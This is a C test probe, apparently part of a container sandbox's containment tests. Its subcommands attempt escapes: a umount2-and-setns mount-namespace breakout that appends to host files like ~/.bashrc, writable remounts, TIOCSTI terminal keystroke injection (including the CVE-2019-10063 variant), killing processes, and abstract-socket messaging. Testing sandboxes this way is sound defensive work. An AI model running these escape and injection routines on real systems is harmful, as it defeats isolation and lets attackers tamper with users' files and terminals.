/* An attacker's toolbox for tests/containment.rs: one static program, run inside jig
 * containers and build steps, each subcommand trying one way out. It prints one line
 * per attempt, "NAME ok" or "NAME errno=E (TEXT)", and exits 0 when it ran; the tests
 * read the lines and look at the host for the attack's effect. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <termios.h>
#include <unistd.h>

static int report(const char *what, long rc) {
    if (rc < 0) {
        int e = errno;
        printf("%s errno=%d (%s)\n", what, e, strerror(e));
        fflush(stdout);
        return -1;
    }
    printf("%s ok\n", what);
    fflush(stdout);
    return 0;
}

/* Appends LINE to PATH, as an attacker adding to ~/.bashrc would. */
static int append(const char *path, const char *line) {
    int fd = open(path, O_WRONLY | O_APPEND | O_CREAT, 0644);
    if (report("open", fd) < 0)
        return 0;
    size_t n = strlen(line);
    report("write", write(fd, line, n) == (ssize_t)n ? 0 : -1);
    close(fd);
    return 0;
}

/* umount2("/", MNT_DETACH) then setns() into the process's own mount namespace: the
 * kernel resets the root to the namespace's root, which is the host's / unless that
 * was detached. Then PATH (a host path) is appended to. */
static int escape(const char *path, const char *line) {
    int ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    report("open-ns", ns);
    report("umount2", umount2("/", MNT_DETACH));
    if (ns >= 0)
        report("setns", setns(ns, CLONE_NEWNS));
    report("chdir", chdir("/"));
    return append(path, line);
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: probe COMMAND ARGS...\n");
        return 2;
    }
    const char *cmd = argv[1];
    if (!strcmp(cmd, "escape") && argc == 4)
        return escape(argv[2], argv[3]);
    if (!strcmp(cmd, "append") && argc == 4)
        return append(argv[2], argv[3]);
    if (!strcmp(cmd, "mount-tmpfs") && argc == 3) {
        report("mount", mount("tmpfs", argv[2], "tmpfs", 0, NULL));
        return 0;
    }
    if (!strcmp(cmd, "remount-rw") && argc == 4) {
        /* Makes a read-only bind writable again, then appends to it. The flags a user
         * namespace may not clear (nosuid, nodev, noexec, atime) are kept. */
        struct statvfs st;
        unsigned long keep = 0;
        if (statvfs(argv[2], &st) == 0) {
            if (st.f_flag & ST_NOSUID) keep |= MS_NOSUID;
            if (st.f_flag & ST_NODEV) keep |= MS_NODEV;
            if (st.f_flag & ST_NOEXEC) keep |= MS_NOEXEC;
            if (st.f_flag & ST_NOATIME) keep |= MS_NOATIME;
            if (st.f_flag & ST_NODIRATIME) keep |= MS_NODIRATIME;
            if (st.f_flag & ST_RELATIME) keep |= MS_RELATIME;
        }
        report("remount", mount(NULL, argv[2], NULL, MS_REMOUNT | MS_BIND | keep, NULL));
        return append(argv[2], argv[3]);
    }
    if (!strcmp(cmd, "ctty")) {
        /* Opens the controlling terminal, if the process has one. */
        int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
        report("open-tty", fd);
        return 0;
    }
    if (!strcmp(cmd, "unshare")) {
        report("unshare-user", unshare(CLONE_NEWUSER));
        report("unshare-mnt", unshare(CLONE_NEWNS));
        return 0;
    }
    if (!strcmp(cmd, "tiocsti") && argc == 3) {
        /* Pushes TEXT into the input queue of the terminal on fd 0, a character at a
         * time, with the plain request and with bits above 32 set (CVE-2019-10063). */
        const char *text = argv[2];
        int plain = 0, high = 0;
        for (const char *c = text; *c; c++)
            if (syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI, c) < 0)
                plain = -1;
        report("tiocsti", plain);
        for (const char *c = text; *c; c++)
            if (syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI | (1UL << 32), c) < 0)
                high = -1;
        report("tiocsti-high", high);
        char sub = 0; /* TIOCL_SETSEL and friends take a subcode byte */
        report("tioclinux", syscall(SYS_ioctl, 0, (unsigned long)TIOCLINUX, &sub));
        /* A harmless terminal ioctl, as a control: it must still work. */
        struct winsize ws;
        report("tiocgwinsz", ioctl(0, TIOCGWINSZ, &ws));
        return 0;
    }
    if (!strcmp(cmd, "kill") && argc == 4) {
        report("kill", kill(atoi(argv[2]), atoi(argv[3])));
        return 0;
    }
    if (!strcmp(cmd, "abstract") && argc == 4) {
        /* Connects to the abstract unix socket @NAME and sends MESSAGE. */
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        size_t n = strlen(argv[2]);
        if (n > sizeof a.sun_path - 1)
            n = sizeof a.sun_path - 1;
        memcpy(a.sun_path + 1, argv[2], n);
        if (report("connect", connect(s, (struct sockaddr *)&a,
                                      offsetof(struct sockaddr_un, sun_path) + 1 + n)) == 0)
            report("send", send(s, argv[3], strlen(argv[3]), 0));
        return 0;
    }
    if (!strcmp(cmd, "listen-abstract") && argc == 3) {
        /* Listens on @NAME, prints what the first client sends, then exits. */
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        size_t n = strlen(argv[2]);
        memcpy(a.sun_path + 1, argv[2], n);
        if (report("bind", bind(s, (struct sockaddr *)&a,
                                offsetof(struct sockaddr_un, sun_path) + 1 + n)) < 0)
            return 1;
        listen(s, 1);
        int c = accept(s, NULL, NULL);
        char buf[256];
        ssize_t got = read(c, buf, sizeof buf - 1);
        if (got < 0)
            got = 0;
        buf[got] = 0;
        printf("received %s\n", buf);
        return 0;
    }
    if (!strcmp(cmd, "pty")) {
        /* Opens a pty the way tmux and expect do (by the slave's name) and sends a line
         * through it: what a tool that runs others on a terminal needs. */
        int m = posix_openpt(O_RDWR | O_NOCTTY);
        if (report("posix_openpt", m) < 0 || report("grantpt", grantpt(m)) < 0 ||
            report("unlockpt", unlockpt(m)) < 0)
            return 0;
        const char *name = ptsname(m);
        if (!name) {
            report("ptsname", -1);
            return 0;
        }
        int s = open(name, O_RDWR | O_NOCTTY);
        if (report("open-slave", s) < 0)
            return 0;
        struct termios t;
        tcgetattr(s, &t);
        cfmakeraw(&t);
        tcsetattr(s, TCSANOW, &t);
        char buf[16] = {0};
        ssize_t n = write(m, "hello", 5);
        n = read(s, buf, sizeof buf - 1);
        printf("pty %s %s\n", name, n == 5 && !strcmp(buf, "hello") ? "echoed" : "lost");
        return 0;
    }
    fprintf(stderr, "probe: unknown command or arguments: %s\n", cmd);
    return 2;
}
